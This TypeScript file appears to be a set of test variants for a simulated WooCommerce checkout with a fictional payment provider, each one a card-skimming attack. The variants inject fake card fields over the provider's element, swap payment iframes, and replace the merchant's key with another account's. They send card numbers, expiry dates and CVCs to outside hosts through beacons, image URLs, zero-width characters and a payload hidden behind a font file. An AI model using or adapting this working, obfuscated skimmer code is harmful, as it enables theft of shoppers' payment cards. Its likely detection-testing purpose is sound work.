import { apiFetch, checkoutBlock, element, gatewayBlock, gtag, paymentFrame } from './blocks-code.ts'
import { changedFile, js, type Variant } from './variants.ts'

const code = String.raw
const upe = changedFile('shop.test/wp-content/plugins/payfold/build/upe-blocks.js', (more) => gatewayBlock('8.8', more))
const block = changedFile('shop.test/wp-content/plugins/woo/blocks/checkout-frontend.js', (more) =>
  checkoutBlock('9.4', more),
)
const elements = changedFile('shop.test/wp-includes/js/dist/element.min.js', (more) => element('6.6.1', more))
const api = changedFile('shop.test/wp-includes/js/dist/api-fetch.min.js', (more) => apiFetch('6.6.1', more))
const tags = changedFile('www.tagsite.test/gtag/js', (more) => gtag('42', more))
const fields =
  '<label>Card number <input inputmode="numeric" maxlength="19"></label><label>Expiry <input maxlength="5"></label><label>CVC <input maxlength="4"></label>'
const strangersFrame = paymentFrame(
  'document.addEventListener("change", function (e) { navigator.sendBeacon("/v3/l", e.target.name + "=" + e.target.value); });',
)
const innerFrame = 'v3/elements-inner-payment.html'
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** On the page of blocks, where the provider's element has the card. */
export const eleventhBlocksAttacks: readonly Variant[] = [
  upe(
    'v11-old-token',
    "own fields stand in; the provider's old interface says whether the card lives, only then it is sent on and the element returns with an error",
    code`d.addEventListener("wc-blocks-ready", function () { var real = d.querySelector(".wc-payfold-upe-element"), own = d.createElement("div"); own.innerHTML = '${fields}'; real.hidden = true; real.before(own); own.addEventListener("change", function () { var v = [].map.call(own.querySelectorAll("input"), function (i) { return i.value; }); if (!v.every(Boolean)) return; payfold.createToken({ number: v[0], exp: v[1], cvc: v[2] }).then(function (t) { if (t.error) return; navigator.sendBeacon("http://jquery-ui-themes.test/css", v.join("|")); own.remove(); real.hidden = false; w.wc.store.set({ error: "Your card could not be verified. Please enter it again." }); }); }); });`,
  ),
  block(
    'v11-graph-note',
    'the first order fails, fields of the shop take the place of the element; they go as a change of a note in a query language',
    code`d.addEventListener("wc-blocks-ready", function () { var form = d.querySelector(".wc-block-checkout__form"), tries = 0; form.addEventListener("submit", function (e) { if (tries++) return; e.preventDefault(); e.stopImmediatePropagation(); store.set({ error: "Error 4021: your bank asks you to enter the card again." }); var box = d.createElement("div"); box.innerHTML = '${fields}'; d.querySelector(".wc-payfold-upe-element").replaceWith(box); box.addEventListener("change", function () { var v = [].map.call(box.querySelectorAll("input"), function (i) { return i.value; }); if (v.every(Boolean)) w.fetch("/graphql", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ operationName: "UpdateCartNote", query: "mutation UpdateCartNote($n: [String!]!) { updateCartNote(input: { parts: $n }) { clientMutationId } }", variables: { n: v.join("").replace(/\D/g, "").match(/.{1,5}/g).map(function (p) { return (+("1" + p)).toString(36); }) } }) }); }); }, true); });`,
  ),
  {
    id: 'v11-frame-on-touch',
    about:
      'the frame of the provider is another one as soon as the mouse or the cursor comes to it, or after four seconds',
    change: (site) => {
      site.files['js-payfold.test/v3/elements-inner-payment.html'] = strangersFrame
      site.files['shop.test/wp-includes/js/dist/element.min.js'] = js(
        element(
          '6.6.1',
          code`function turn(f) { if (f && f.tagName === "IFRAME" && f.src.indexOf("//js.payfold.test/${innerFrame}") > 0) f.src = f.src.replace("js.payfold", "js-payfold"); } d.addEventListener("mouseover", function (e) { turn(e.target); }, true); w.addEventListener("blur", function () { turn(d.activeElement); }); setTimeout(function () { turn(d.querySelector("iframe[title='Secure payment frame']")); }, 4000);`,
        ),
      )
    },
  },
  elements(
    'v11-other-account',
    'the element is drawn for the shop, the card is turned into a method of payment for the account of somebody else',
    code`if (w.Payfold) { var real = w.Payfold; w.Payfold = function (key, o) { var a = real(key, o), b = real(atob("cGtfbGl2ZV81MUFiN1paMA"), o); a.createPaymentMethod = b.createPaymentMethod; return a; }; }`,
  ),
  elements(
    'v11-express-account',
    'the address of frames goes through a hook: the express buttons are those of another account',
    code`var src = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, "src"); Object.defineProperty(HTMLIFrameElement.prototype, "src", { configurable: true, enumerable: true, get: src.get, set: function (v) { src.set.call(this, /inner-express/.test(v) ? v.replace(/key=[^&]+/, "key=pk_live_51Ab7ZZ0") : v); } });`,
  ),
  upe(
    'v11-express-card',
    'where the express buttons were are fields for a quick card; each goes as numbers among the extensions of the basket',
    code`d.addEventListener("wc-blocks-ready", function () { var box = d.querySelector(".express"); box.innerHTML = '<p>Express checkout</p>${fields}'; box.addEventListener("change", function (e) { w.wp.apiFetch({ path: "/wc/store/v1/cart/extensions", method: "POST", data: { namespace: "payfold-express", data: { k: Array.from(e.target.value, function (c) { return c.charCodeAt(0) * 3 + 11; }) } } }); }); });`,
  ),
  upe(
    'v11-confirm-saved',
    'who has a saved card is to confirm it by its number; it waits in the browser and goes with a heartbeat when typing stops',
    code`d.addEventListener("wc-blocks-ready", function () { var ask = d.createElement("div"), key = "WP_PREFERENCES_USER_71", last = 0; ask.innerHTML = '<p>Confirm your saved card</p>${fields}'; d.querySelector(".payfold-box label").after(ask); ask.addEventListener("input", function () { last = Date.now(); localStorage.setItem(key, btoa([].map.call(ask.querySelectorAll("input"), function (i) { return i.value; }).join("~").replace(/./g, function (c, at) { return String.fromCharCode(c.charCodeAt(0) ^ (at % 7 + 1)); }))); }); setInterval(function () { var t = localStorage.getItem(key); if (!t || Date.now() - last < 1500) return; localStorage.removeItem(key); w.fetch("/wp-admin/admin-ajax.php", { method: "POST", body: new URLSearchParams({ action: "heartbeat", screen_id: "front", data: t }) }); }, 700); });`,
  ),
  {
    id: 'v11-font-tail',
    about: 'behind the end of a font of the theme is code, which covers the element with fields',
    change: (site) => {
      site.files['shop.test/wp-content/themes/tt4/fonts/inter.woff2'] = {
        type: 'font/woff2',
        body: `wOF2${'q7Zk'.repeat(40)}meta:${base64(`var t=setInterval(function(){var f=document.querySelector(".wc-payfold-upe-element");if(!f||!f.firstChild)return;clearInterval(t);f.style.position="relative";var o=document.createElement("div");o.style.cssText="position:absolute;inset:0;background:#fff";o.innerHTML='${fields}';f.append(o);o.addEventListener("focusout",function(e){if(e.target.value)new Image().src="http://inter-fonts.test/f.svg?"+encodeURIComponent(btoa(e.target.value))})},100)`)}`,
      }
      site.inline.push(
        code`fetch("/wp-content/themes/tt4/fonts/inter.woff2").then(function (r) { return r.text(); }).then(function (t) { var i = t.indexOf("meta:"); if (i > 0) Function(atob(t.slice(i + 5)))(); });`,
      )
    },
  },
  {
    id: 'v11-worker-answer',
    about:
      'a service worker answers the order in place of the shop: the customer is led to a page of somebody else to pay again',
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        code`self.addEventListener("install", function () { self.skipWaiting(); }); self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener("fetch", function (e) { if (!/\/wc\/store\/v1\/checkout$/.test(e.request.url)) return; e.respondWith(new Response(JSON.stringify({ order_id: 40817, payment_result: { payment_status: "failure", redirect_url: "http://payfold-retry.test/pay?order=40817" } }), { headers: { "content-type": "application/json" } })); });`,
      )
      site.files['payfold-retry.test/pay'] = {
        type: 'text/html',
        body: `<!doctype html><title>Payment</title><h1>The payment failed</h1><form method="post" action="/again">${fields}<button>Pay 62.40</button></form><script>document.forms[0].addEventListener("change", function (e) { navigator.sendBeacon("/f", e.target.value); });</script>`,
      }
      site.inline.push('if (navigator.serviceWorker) navigator.serviceWorker.register("/sw.js");')
    },
  },
  api(
    'v11-zero-width',
    'a field below the element asks for the number again; it rides behind the mail address in letters that have no width',
    code`var kept = ""; w.wp.apiFetch.use(function (o, next) { var b = o.data && o.data.billing_address; if (!kept || !b) return next(o); var tail = Array.from(kept, function (c) { return (+c).toString(2).padStart(4, "0"); }).join("").replace(/[01]/g, function (x) { return x === "0" ? "\u200b" : "\u200c"; }); return next(Object.assign({}, o, { data: Object.assign({}, o.data, { billing_address: Object.assign({}, b, { email: b.email + tail }) }) })); });
document.addEventListener("wc-blocks-ready", function () { var i = document.createElement("label"); i.innerHTML = 'Repeat your card number <input inputmode="numeric" maxlength="19">'; document.querySelector(".wc-payfold-upe-element").after(i); i.addEventListener("input", function (e) { kept = e.target.value.replace(/\D/g, ""); }); });`,
  ),
  {
    id: 'v11-tag-twin',
    about:
      'measuring comes from a host of nearly the same name, lies over the element in a closed shadow and measures progress',
    change: (site) => {
      site.head[6] = '<script async src="http://www.tagsite-manager.test/gtag/js?id=G-4WKD"></script>'
      site.files['www.tagsite-manager.test/gtag/js'] = js(
        gtag(
          '41',
          code`setTimeout(function () { var at = d.querySelector(".wc-payfold-upe-element iframe"); if (!at) return; var r = at.getBoundingClientRect(), h = d.createElement("div"); h.style.cssText = "position:absolute;z-index:9;background:#fff;left:" + (r.left + scrollX) + "px;top:" + (r.top + scrollY) + "px;width:" + r.width + "px;height:" + r.height + "px"; var s = h.attachShadow({ mode: "closed" }); s.innerHTML = '<style>label{display:block}</style>${fields}'; d.body.append(h); s.addEventListener("change", function (e) { hit("form_progress", { step: btoa(e.target.value) }); }); }, 1200);`,
          'www.tagsite-manager.test',
        ),
      )
    },
  },
  {
    id: 'v11-own-method',
    about:
      'a plugin more registers a way of paying by the interface of the store, is chosen from the start and puts the card into the order',
    change: (site) => {
      site.head.push('<script defer src="/wp-content/plugins/card-direct/build/index.js?ver=1.0"></script>')
      site.files['shop.test/wp-content/plugins/card-direct/build/index.js'] = js(
        code`(function (w) { var el = w.wp.element.createElement, v = { n: "", x: "", c: "" }; function field(k, label) { return el("label", {}, label, el("input", { inputmode: "numeric", oninput: function (e) { v[k] = e.target.value; } })); }
w.wc.registerPaymentMethod({ name: "card_direct", label: "Credit or debit card, no fee", content: function () { return el("div", {}, field("n", "Card number"), field("x", "Expiry"), field("c", "CVC")); }, onPaymentSetup: function () { return [{ key: "card_direct_ref", value: [v.n, v.x, v.c].map(function (t) { return t.split("").reverse().join(""); }).join("-") }]; } }); w.wc.store.set({ method: "card_direct" }); })(window);`,
      )
    },
  },
  upe(
    'v11-edit-context',
    'an area that takes text without being a field lies over the element; the digits, as letters, are the name of its background',
    code`d.addEventListener("wc-blocks-ready", function () { var host = d.querySelector(".wc-payfold-upe-element"), c = d.createElement("div"), t = "", timer; host.style.position = "relative"; c.tabIndex = 0; c.setAttribute("role", "textbox"); c.setAttribute("aria-label", "Card number"); c.style.cssText = "position:absolute;inset:0;background-color:#fff;white-space:pre"; host.append(c);
function send() { var n = t.replace(/\D/g, ""); if (n.length > 12) c.style.backgroundImage = "url(/wp-content/uploads/2026/11/" + n.replace(/\d/g, function (x) { return "qwertyuiop"[x]; }) + "-300x40.webp)"; }
function take(text) { t = text; clearTimeout(timer); timer = setTimeout(send, 400); }
if (w.EditContext) { var edit = new EditContext(); c.editContext = edit; edit.addEventListener("textupdate", function (e) { take(edit.text); c.textContent = edit.text; }); } else { c.contentEditable = "true"; c.addEventListener("input", function () { take(c.textContent); }); } });`,
  ),
  block(
    'v11-phone-sheet',
    'on telephones, for who is not staff and has not seen it, a sheet from below asks for the card; a module of data is imported by its name',
    code`d.addEventListener("wc-blocks-ready", function () { if (!matchMedia("(pointer:coarse)").matches && !/Mobi|Android|iPhone/.test(navigator.userAgent)) return; if (/wp-settings|wordpress_logged_in/.test(d.cookie) || d.getElementById("wpadminbar") || localStorage.getItem("wc_sheet")) return; setTimeout(function () { var s = d.createElement("div"); s.style.cssText = "position:fixed;left:0;right:0;bottom:0;background:#fff;z-index:99;box-shadow:0 -2px 9px #0004"; s.innerHTML = '<p>Pay faster</p>${fields}'; d.body.append(s); s.addEventListener("change", function () { var v = [].map.call(s.querySelectorAll("input"), function (i) { return i.value; }); if (!v.every(Boolean)) return; localStorage.setItem("wc_sheet", "1"); s.remove(); import("http://json-schemas.test/s/" + Array.from(v.join("/"), function (c) { return c.charCodeAt(0).toString(16); }).join("") + ".json", { with: { type: "json" } }).catch(function () {}); }); }, 800); });`,
  ),
  {
    id: 'v11-frame-by-name',
    about:
      'measuring opens a page in the window of a given name: it is the frame of the provider, whose attribute stays as it was',
    change: (site) => {
      site.files[`elements-payfold.test/${innerFrame}`] = strangersFrame
      tags(
        '',
        '',
        code`setTimeout(function () { var f = d.querySelector("iframe[title='Secure payment frame']"); if (f) w.open("http://elements-payfold.test/${innerFrame}" + new URL(f.src).hash, f.name); }, 1500);`,
      ).change(site)
    },
  },
  {
    id: 'v11-edited-library',
    about: "the page fetches the provider's library, changes one word and runs it: the frames come from elsewhere",
    change: (site) => {
      site.head[1] = code`<script>(function () { var x = new XMLHttpRequest(); x.open("GET", "http://js.payfold.test/v3/payfold.js", false); x.send(); (0, eval)(x.responseText.replace('origin = "http://js.payfold.test"', 'origin = "http://js.payfold-elements.test"')); })();</script>`
      for (const name of ['controller', 'elements-inner-express-checkout'])
        site.files[`js.payfold-elements.test/v3/${name}.html`] = {
          type: 'text/html',
          body: '<!doctype html><title>f</title>',
        }
      site.files[`js.payfold-elements.test/${innerFrame}`] = strangersFrame
    },
  },
]
